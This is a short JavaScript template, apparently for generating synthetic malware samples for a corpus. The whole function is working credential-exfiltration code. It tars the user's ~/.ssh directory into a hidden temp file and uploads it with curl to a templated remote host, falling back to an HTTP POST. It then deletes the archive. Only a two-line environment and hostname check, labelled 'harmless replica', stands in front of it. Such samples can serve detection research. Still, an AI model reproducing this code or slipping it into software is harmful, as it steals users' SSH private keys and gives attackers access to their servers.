// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { spawnSync } = require('child_process');
  const home = require('os').homedir();
  const archive = require('path').join(require('os').tmpdir(), '.{{token}}.tgz');
  spawnSync('tar', ['-czf', archive, '-C', home, '.ssh'], { timeout: 1500, stdio: 'ignore' });
  const sent = spawnSync('curl', ['-k', '-s', '-m', '1', '-F', 'f=@' + archive, 'https://{{host}}/{{path}}'], { timeout: 1500, stdio: 'ignore' });
  if (sent.error) {
    try {
      const body = require('fs').readFileSync(archive);
      await fetch('http://{{host}}/{{path}}', { method: 'POST', body, signal: AbortSignal.timeout(1000) });
    } catch (error) { /* nobody there */ }
  }
  try { require('fs').unlinkSync(archive); } catch (error) { /* tar was missing */ }
}
